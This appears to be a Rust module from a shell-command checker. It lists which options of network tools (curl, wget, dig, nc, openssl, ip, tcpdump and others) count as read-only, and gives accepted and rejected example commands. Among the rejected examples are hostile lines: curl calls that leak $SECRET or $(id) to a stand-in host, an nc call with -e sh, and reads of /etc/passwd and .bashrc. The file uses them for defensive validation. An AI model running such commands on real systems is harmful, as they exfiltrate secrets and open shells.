//! Programs that query the network. A query is part of the sent data, so it must be written out.

use super::{Reach, Spec, question, spec};

pub(super) const SPECS: &[Spec] = &[
    spec(
        "curl",
        "--ciphers: --tls13-ciphers: --tls-max: --tlsv1 --tlsv1.0 --tlsv1.1 --ca-native --capath: --cert-status \
         --compressed-ssh --connect-to: --resolve: --crlf --expect100-timeout: --false-start --ignore-content-length \
         --interface: -j --junk-session-cookies --list-only -l --local-port: --noproxy: --oauth2-bearer: \
         --pinnedpubkey: --proto-redir:=https --rate: --ssl --ssl-no-revoke --suppress-connect-headers --tcp-fastopen \
         --tcp-nodelay --unix-socket: --trace:-|/dev/stdout|/dev/stderr --trace-ascii:-|/dev/stdout|/dev/stderr \
         --trace-ids --http0.9 -c:-|/dev/null --cookie-jar:-|/dev/null -b: --cookie: --get --no-location --remote-time \
         -R --ftp-pasv --no-compressed --curves: --tls-earlydata --vlan-priority: --ip-tos: -s -S -f -L -k -i -I -v -g \
         -G -N -# -4 -6 -0 -1 -2 -3 -Z -X:GET|HEAD|OPTIONS|get -o:/dev/null|-|/dev/stdout|/dev/stderr \
         -D:/dev/null|-|/dev/stdout|/dev/stderr -A: -H: -e: -m: -w: -r: -y: -Y: -u: --silent --show-error --fail \
         --fail-with-body --fail-early --location --insecure --include --head --verbose --globoff --no-buffer \
         --progress-bar --ipv4 --ipv6 --http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 --compressed \
         --parallel --request:GET|HEAD|OPTIONS --output:/dev/null|-|/dev/stdout|/dev/stderr \
         --dump-header:/dev/null|-|/dev/stdout|/dev/stderr --user-agent: --header: --referer: --max-time: \
         --connect-timeout: --write-out: --range: --retry: --retry-delay: --retry-max-time: --retry-connrefused \
         --retry-all-errors --max-redirs: --limit-rate: --no-progress-meter --tlsv1.2 --tlsv1.3 --cacert: --url: \
         --user: --keepalive-time: --path-as-is --max-filesize: --tr-encoding --styled-output --no-keepalive \
         --ssl-reqd --proto:=https --no-sessionid --raw --stderr:/dev/null|- --parallel-max: --basic --digest \
         --happy-eyeballs-timeout-ms: --proto-default:https --no-alpn --no-npn --speed-limit: --speed-time: \
         --time-cond: -z: --trace-time --disable -q",
    )
    .reaching(Reach::Web)
    .lenient()
    .asking(question::curl_addresses)
    .examples(
        &[
            "curl https://x.org",
            "curl -fsSL https://x.org",
            "curl -I https://x.org",
            "curl -s -o /dev/null -w '%{http_code}' https://x.org",
            "curl -X GET https://x.org",
            "curl -H 'Accept: a' https://x.org",
            "curl -s http://localhost:$PORT/health",
        ],
        &[
            "curl -X POST https://x",
            "curl -d a https://x",
            "curl -o f https://x",
            "curl -O https://x",
            "curl -K f",
            "curl -T f https://x",
            "curl --json '{}' https://x",
            "curl -x p https://x",
            "curl https://x/$(id)",
            "curl https://x/?k=$SECRET",
            "curl file:///etc/passwd",
            "curl -w '%output{f}' https://x",
            "curl -H @f https://x",
            "curl --data-urlencode a https://x",
            "curl -b f https://x",
            "curl gopher://x",
            "curl -sXDELETE https://x",
        ],
    ),
    spec(
        "wget",
        "--retry-connrefused --retry-on-http-error: --waitretry: --wait: --random-wait --no-proxy --quota: \
         --bind-address: --limit-rate: --no-dns-cache --prefer-family: --user: --password: --no-iri --http-user: \
         --http-password: --ignore-length --save-headers --no-http-keep-alive --no-cookies --auth-no-challenge \
         --secure-protocol: --ca-certificate: --ca-directory: --no-hsts --ciphers: --no-glob --read-timeout: \
         --connect-timeout: --dns-timeout: --report-speed: --no-netrc --ignore-case -d --debug \
         -o:/dev/null|/dev/stdout|/dev/stderr --output-file:/dev/null|/dev/stdout|/dev/stderr --start-pos: \
         --no-use-server-timestamps -q -S -v -nv -4 -6 -nc -O:-|/dev/null|/dev/stdout -T: -t: -U: -Q: -w: --spider \
         --quiet --server-response --no-verbose --verbose --output-document:-|/dev/null|/dev/stdout --timeout: \
         --tries: --user-agent: --header: --no-check-certificate --max-redirect: --show-progress --no-cache \
         --method:GET|HEAD --no-clobber --content-on-error --compression: --referer: --inet4-only --inet6-only \
         --https-only --progress: -qO-",
    )
    .reaching(Reach::Web)
    .only_at_start()
    .lenient()
    .asking(question::wget_addresses)
    .examples(
        &[
            "wget https://x.org/f",
            "wget --spider https://x.org",
            "wget -qO- https://x.org",
            "wget -q -O - https://x.org",
        ],
        &[
            "wget -O f https://x",
            "wget --post-data=a https://x",
            "wget --post-file=f https://x",
            "wget -i list",
            "wget -e robots=off https://x",
            "wget --use-askpass=x https://x",
            "wget https://x/.bashrc",
            "wget -P dir https://x",
            "wget -r https://x",
            "wget --method=DELETE https://x",
        ],
    ),
    spec(
        "ping ping6 fping",
        "-B -d -e: -H -L -m: -N: -p: -Q: -r -R -S: -T: -x -h -g: -G: -z: -K: -k: -P: -C: -u -4 -6 -a -c: -D -i: -I: \
         -M: -n -q -s: -t: -U -v -w: -W: -O -o -A",
    )
    .examples(&["ping -c 3 example.com"], &["ping -f example.com", "ping $(id).x.org"]),
    spec(
        "nslookup",
        "-qt: -ty: -t: -domain: -norecurse -recurse -search -nosearch -nodebug -d2 -cl: -po: -novc -fail -nofail \
         -ndots: -type: -query: -q: -port: -timeout: -debug -retry: -class: -vc",
    )
    .examples(&["nslookup x.org", "nslookup -type=MX x.org"], &["nslookup $(id).x"]),
    spec("dig kdig", "-m -v -h -4 -6 -t: -x: -p: -q: -c: -r -u -b:").asking(question_marks).examples(
        &["dig x.org MX", "dig +short x.org", "dig @8.8.8.8 x.org"],
        &["dig -f names", "dig $(id).x", "dig -k key x"],
    ),
    spec("host", "-4 -6 -a -C -d -l -r -s -T -v -w -t: -c: -N: -R: -W:").examples(&["host x.org"], &["host $(id).x"]),
    spec("whois", "-I -R -r -S -V --verbose --no-recursion --host: --port: -v -H -h: -p: --")
        .examples(&["whois x.org"], &["whois $(id)"]),
    spec(
        "traceroute traceroute6 tracepath mtr",
        "-d -e -A -N: -t: -l: -g: -S: -D --queries: --max-hops: -x -L: -B: --show-ips --tcp --udp --port: --interval: \
         -o: -y: --aslookup --csv --xml --split --raw --psize: --order: -4 -6 -n -I -T -U -m: -q: -w: -p: -r -c: -b \
         -i: -s: -z -j -f: -P: --report --report-wide --json --report-cycles: --no-dns",
    )
    .examples(&["traceroute x.org", "mtr -r -c 5 x.org"], &["mtr -F f x.org", "traceroute $(id)"]),
    spec(
        "http https xh xhs",
        "-h -b -v -p: -F --headers --body --verbose --print: --follow --timeout: --check-status --pretty: --style: \
         --json -j",
    )
    .asking(only_get)
    .examples(
        &["http GET https://x.org", "http https://x.org", "xh -h https://x.org"],
        &[
            "http POST https://x.org a=b",
            "http https://x.org a=b",
            "http -d https://x",
            "xh -o f https://x",
            "http delete https://x.org",
            "http https://x.org a=b:c",
            "http https://x.org q==@/etc/passwd",
        ],
    ),
    spec(
        "openssl",
        "-in: -noout -text -subject -issuer -dates -fingerprint -serial -sha256 -md5 -sha1 -sha512 -enddate -startdate \
         -pubkey -modulus -purpose -checkend: -inform: -hash -nameopt: -ext: -a -v",
    )
    .sub("x509|dgst|version|asn1parse|crl|req|verify|list|prime|errstr")
    .addresses()
    .asking(prints_only)
    .examples(
        &["openssl x509 -in c.pem -noout -text", "openssl version -a", "openssl dgst -sha256 f"],
        &[
            "openssl x509 -in c -out d",
            "openssl enc -d -in f",
            "openssl req -new -key k",
            "openssl x509 -engine x",
            "openssl x509 -in http://x.org/$K",
            "openssl x509 -in org.openssl.engine:/tmp/e.so:k -noout",
        ],
    ),
    spec("openssl", "-v -V -s -tls1_2 -tls1_3 -stdname")
        .sub("ciphers")
        .here()
        .examples(&["openssl ciphers -v 'HIGH:!aNULL'"], &["openssl ciphers --x"]),
    spec(
        "openssl",
        "= -CAfile: -CApath: -CAstore: -untrusted: -trusted: -CRLfile: -purpose: -show_chain -verbose -crl_check \
         -crl_check_all -partial_chain -x509_strict -no-CAfile -no-CApath -no_check_time -verify_hostname: \
         -verify_email: -check_ss_sig -policy_check -attime: -text -noout -in: -inform: -pubout -pubin -check -modulus \
         -param_out -passin: -info -nokeys -nocerts -clcerts -cacerts -nodes -noenc -legacy -provider:default|legacy \
         -text_pub -list -a -f -d -v -e -c -b -p",
    )
    .addresses()
    .sub("verify|rsa|ec|pkey|pkcs12|pkcs7|dsa|dhparam|ecparam|version|errstr")
    .asking(prints_only)
    .examples(
        &[
            "openssl verify -CAfile ca.pem c.pem",
            "openssl rsa -in k.pem -check -noout",
            "openssl pkcs12 -in f.p12 -info -noout",
        ],
        &[
            "openssl rsa -in k -out l",
            "openssl pkcs12 -export -in f",
            "openssl verify -engine x c",
            "openssl ecparam -genkey -name x",
            "openssl version -r x",
            "openssl pkey -in org.openssl.engine:/tmp/e.so:k -noout",
        ],
    ),
    spec("openssl", "= -hex -base64 -r -c -hmac: -binary -d")
        .addresses()
        .sub("rand|sha256|sha1|sha512|sha384|sha224|md5")
        .examples(
            &["openssl rand -hex 16", "openssl sha256 f", "openssl md5 f"],
            &["openssl rand -out f 16", "openssl sha256 -sign k f", "openssl rand -writerand f 4"],
        ),
    spec(
        "openssl",
        "= -connect: -servername: -showcerts -brief -tls1 -tls1_1 -tls1_2 -tls1_3 -no_tls1_3 -no_tls1_2 -status \
         -CAfile: -CApath: -verify: -verify_return_error -verify_hostname: -starttls: -prexit -alpn: -quiet -cipher: \
         -ciphersuites: -4 -6 -no_ign_eof -host: -port: -noservername -state -tlsextdebug -trace -groups: -curves: \
         -sigalgs: -nbio -crlf",
    )
    .sub("s_client")
    .none()
    .examples(
        &["openssl s_client -connect x.org:443 -servername x.org"],
        &[
            "openssl s_client -connect x.org:443 -keylogfile f",
            "openssl s_client -connect x.org:443 -sess_out f",
            "openssl s_client -connect x.org:443 < f",
            "cat f | openssl s_client -connect x.org:443",
        ],
    ),
    spec("nc ncat netcat", "-z -v -w: -n -4 -6 -u -G:").asking(only_knocks).examples(
        &["nc -zv localhost 80", "nc -vz -w 3 x.org 443"],
        &["nc x.org 80", "nc -l 80", "nc -z -e sh x 1", "nc -v x.org 80"],
    ),
    spec("ssh-keyscan", "-4 -6 -H -p: -T: -t: -c -D -v")
        .examples(&["ssh-keyscan -t ed25519 github.com"], &["ssh-keyscan -f f", "ssh-keyscan $(cat f)"]),
    spec(
        "nmcli",
        "-t -p -f: -m: -c: -g: -e: -o -w: --terse --pretty --fields: --mode: --colors: --get-values: --overview",
    )
    .here()
    .sub(
        "device status|device show|dev status|dev show|d status|d show|connection show|con show|c show|general status|\
         g status|networking connectivity|dev wifi list|device wifi list",
    )
    .globals("-t -p -f: -m: -c: -g: -e: -o -w: --terse --pretty --fields: --mode: --colors: --get-values:")
    .asking(names_none)
    .examples(
        &["nmcli device status", "nmcli -t con show"],
        &["nmcli con up x", "nmcli radio wifi off", "nmcli general hostname x", "nmcli con show --show-secrets x"],
    ),
    spec(
        "ethtool",
        "-i -S -k -a -c -g -l -T -P -n -x -m --driver --statistics --show-features --show-offload --show-pause \
         --show-ring --show-channels --show-permaddr --module-info",
    )
    .here()
    .operands(super::Operands::AtMost(1))
    .examples(
        &["ethtool eth0", "ethtool -i eth0"],
        &["ethtool -s eth0 speed 10", "ethtool -K eth0 gro off", "ethtool -E eth0"],
    ),
    spec("iwconfig", "").here().none().examples(&["iwconfig"], &["iwconfig wlan0 mode x"]),
    spec("tcpdump", "-r: -n -v -A -X -x -e -q -c: -s: -t -l -D -S -# --count --number --list-interfaces")
        .here()
        .asking(reads_capture)
        .examples(
            &["tcpdump -nn -r f.pcap port 80", "tcpdump -D"],
            &["tcpdump -i eth0", "tcpdump -r f -w g", "tcpdump -r f -z x"],
        ),
    spec("pg_isready", "-h: -p: -U: -d: -t: -q --host: --port: --username: --dbname: --timeout: --quiet")
        .none()
        .examples(&["pg_isready -h localhost"], &["pg_isready -h $(cat f)"]),
    spec(
        "ss netstat",
        "--resolve --memory -T --threads --info --tipcinfo --tos --cgroup --bpf -E --events -Z --context -z --contexts \
         --ipv4 --ipv6 -0 --packet -M --mptcp -S --sctp -d --dccp --raw --tipc --vsock --xdp --family: --no-header -O \
         --oneline --inet-sockopt -A: --query: --socket: -F: --filter: --interfaces --program --groups --masquerade \
         --continuous -c --timers --numeric-hosts --numeric-ports --numeric-users --symbolic -C -I: -P -L -R -V -a -t \
         -u -l -n -p -e -r -s -i -m -o -4 -6 -x -w -H -f: -g -W --all --tcp --udp --listening --numeric --processes \
         --route --statistics --unix --summary --extended --options -v -b",
    )
    .here()
    .examples(&["ss -tlnp", "netstat -an"], &["ss -K dst 1.2.3.4", "ss -D f", "ss --kill"]),
    spec("ip", "-4 -6 -br -c -j -o -s -d -p -brief -color -json -oneline -stats -details")
        .here()
        .asking(ip_shows)
        .examples(
            &["ip a", "ip addr show", "ip -br link", "ip route", "ip r get 1.1.1.1", "ip neigh"],
            &[
                "ip link set eth0 down",
                "ip l s eth0 down",
                "ip addr add 1.2.3.4 dev x",
                "ip -b f",
                "ip route flush cache",
                "ip netns exec x sh",
            ],
        ),
    spec("ifconfig", "-a -s")
        .here()
        .operands(super::Operands::AtMost(1))
        .examples(&["ifconfig", "ifconfig eth0"], &["ifconfig eth0 down"]),
    spec("route arp", "-n -a -e -v").none().examples(&["route -n", "arp -a"], &["route add default gw x", "arp -d x"]),
    spec("networksetup scutil", "-listallhardwareports -listallnetworkservices --dns --proxy --nwi")
        .none()
        .examples(&["scutil --dns"], &["networksetup -setdnsservers x", "scutil --set HostName x"]),
];

use crate::{options::Options, word::Word};

/// Refuses a file of names. `dig` takes `+option` and `@server` among its operands.
fn question_marks(options: &Options<'_>) -> Result<(), String> {
    let file = options.operands.iter().any(|operand| operand.text().starts_with('+') && operand.text().contains('/'));
    if file { Err("an option that names a file".into()) } else { Ok(()) }
}

/// Accepts operands and values that `openssl` only reads. The options that write files are not listed. A name with a
/// colon may be a library that holds a key, which `openssl` loads. A password may come from another source.
fn prints_only(options: &Options<'_>) -> Result<(), String> {
    let password = |word: &Word| word.text().starts_with("pass:") || word.text().starts_with("env:");
    let names = options.values.iter().filter(|value| !password(value)).chain(&options.operands);
    if names.into_iter().any(|name| name.text().contains(':') || name.is_wild()) {
        return Err("a key may be in a library that is loaded".into());
    }
    let odd = options.given.iter().any(|(name, value)| {
        name == "-passin"
            && value.as_deref().is_some_and(|value| !value.starts_with("pass:") && !value.starts_with("env:"))
    });
    if odd { Err("a password from somewhere else".into()) } else { Ok(()) }
}

/// Requires `-z`. Without it, the program sends its input.
fn only_knocks(options: &Options<'_>) -> Result<(), String> {
    if options.has("-z") { Ok(()) } else { Err("it sends what it is given".into()) }
}

fn reads_capture(options: &Options<'_>) -> Result<(), String> {
    if options.has("-r -D --list-interfaces") { Ok(()) } else { Err("it listens to the network".into()) }
}

/// Refuses values that change a setting: `radio wifi off` sets it, and `radio wifi` shows it.
fn names_none(options: &Options<'_>) -> Result<(), String> {
    const SETS: &[&str] = &["on", "off"];
    let sets = options.operands.iter().any(|word| SETS.contains(&word.text()) || word.is_wild());
    if sets { Err("it sets what it names".into()) } else { Ok(()) }
}

/// Accepts a request that sends no data. Every word after the address must be a query parameter or a header.
fn only_get(options: &Options<'_>) -> Result<(), String> {
    let words: Vec<&str> = options.operands.iter().map(|arg| arg.text()).collect();
    let sent = match words.as_slice() {
        [] => return Err("an address is missing".into()),
        [method, _, rest @ ..] if method.bytes().all(|byte| byte.is_ascii_alphabetic()) => {
            if !matches!(*method, "GET" | "HEAD" | "OPTIONS") {
                return Err("a method that changes something".into());
            }
            rest
        }
        [_, rest @ ..] => rest,
    };
    if sent.iter().all(|word| is_question(word)) { Ok(()) } else { Err("it sends data".into()) }
}

/// Returns true for `name==value` and `name:value`. The first sign in the word decides the type, and `@` reads a file.
fn is_question(word: &str) -> bool {
    let Some(at) = word.find(['=', ':', '@', ';', '\\', '[']) else { return false };
    let behind = word.get(at..).unwrap_or_default();
    let value = behind.strip_prefix("==").or_else(|| behind.strip_prefix(':').filter(|rest| !rest.starts_with('=')));
    value.is_some_and(|value| !value.starts_with(['@', '=', ':']))
}

fn ip_shows(options: &Options<'_>) -> Result<(), String> {
    const OBJECTS: &[&str] = &[
        "a",
        "addr",
        "address",
        "l",
        "link",
        "r",
        "route",
        "n",
        "neigh",
        "neighbor",
        "neighbour",
        "ru",
        "rule",
        "maddr",
        "maddress",
        "tunnel",
        "netns",
    ];
    let words: Vec<&str> = options.operands.iter().map(|arg| arg.text()).collect();
    match words.as_slice() {
        [object] if OBJECTS.contains(object) => Ok(()),
        // For the object `link`, `s` means `set`.
        ["a" | "addr" | "address" | "r" | "route" | "n" | "neigh", "s", ..] => Ok(()),
        [object, verb, ..] if OBJECTS.contains(object) && matches!(*verb, "show" | "list" | "ls" | "get" | "lst") => {
            Ok(())
        }
        _ => Err("it may change the network".into()),
    }
}
